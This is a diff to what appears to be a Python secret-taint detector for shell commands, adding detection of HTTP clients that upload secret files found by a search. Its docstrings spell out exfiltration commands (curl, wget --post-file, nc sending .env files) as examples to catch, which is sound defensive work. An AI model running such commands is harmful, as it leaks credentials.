@@ -11,6 +11,9 @@
   $(find ...)``, ``-exec cat {} +``) prints their contents: secret data, like ``cat .env``.
   ``grep -r API_KEY .`` without ``-l`` prints the matching lines themselves: secret data.
   A search for ``*.py`` or ``TODO``, or for templates (``.env.example``), is ordinary.
+* An HTTP client that uploads files named by such paths (``f=$(grep -rl SECRET .); curl -d
+  @"$f" URL``, ``find . -name .env | xargs -I{} curl -T {} URL``, ``-F f=@{}``, wget
+  ``--post-file``) reads them like ``cat``: its request carries secret data.
 """
 
 from __future__ import annotations
@@ -29,7 +32,8 @@ if TYPE_CHECKING:
     from ._resolve import Invocation
     from ._walk import Run
 
-__all__ = ["PATH_MARK", "project_found", "project_read", "project_search", "redirect_secret"]
+__all__ = ["PATH_MARK", "project_found", "project_read", "project_search", "project_upload",
+           "redirect_secret"]
 
 PATH_MARK = " (paths of secret files)"
 """Suffix of the program label of a ``"path"`` source (a search that lists secret files)."""
@@ -57,8 +61,9 @@ _KEY_WORDS = ("api_key", "apikey", "api-key", "secret", "token", "password", "pa
 
 
 def redirect_secret(run: Run, f: Field) -> Taint:
-    """The secret taint of ``< F`` when F is a secret file (``< .env``)."""
-    if not secret_file([f]):
+    """The secret taint of ``< F`` when F is a secret file (``< .env``) or a path a project
+    search for secrets listed (``f=$(find . -name .env); nc h 80 < "$f"``)."""
+    if not secret_file([f]) and not any(s.kind == "path" for s in f.taint):
         return NO_TAINT
     return frozenset({Source("secret", "< " + f.text, run.map_span(f.span))})
 
@@ -176,3 +181,28 @@ def project_read(run: Run, inv: Invocation, stdin: Flow | None) -> Taint:
     if src is None:
         return NO_TAINT
     return frozenset({Source("secret", inv.name, run.map_span(inv.word.span))})
+
+
+# Options of HTTP clients whose value is a file they read and send.
+_UPLOAD_OPTIONS = frozenset({"-T", "--upload-file", "--post-file", "--body-file"})
+
+
+def _uploads(args: list[Field], k: int) -> bool:
+    """``args[k]`` names a file the client sends (``@F``, ``k=@F``, ``k=<F``, ``-T F``)."""
+    t = args[k].text
+    return t.startswith(("@", "--post-file=", "--body-file=", "--upload-file=")) or \
+        "=@" in t or "=<" in t or (k > 0 and args[k - 1].text in _UPLOAD_OPTIONS)
+
+
+def project_upload(run: Run, inv: Invocation, stdin: Flow | None) -> Taint:
+    """Secret taint of an HTTP client uploading files a project search listed (module doc)."""
+    args = inv.args
+    found = any(s.kind == "path" for f in args for s in f.taint)
+    stdin_paths = inv.from_stdin and stdin is not None and any(
+        s.kind == "path" for s in stdin.taint)
+    if not (found or stdin_paths):
+        return NO_TAINT
+    for k, f in enumerate(args):
+        if _uploads(args, k) and (stdin_paths or any(s.kind == "path" for s in f.taint)):
+            return frozenset({Source("secret", inv.name, run.map_span(inv.word.span))})
+    return NO_TAINT
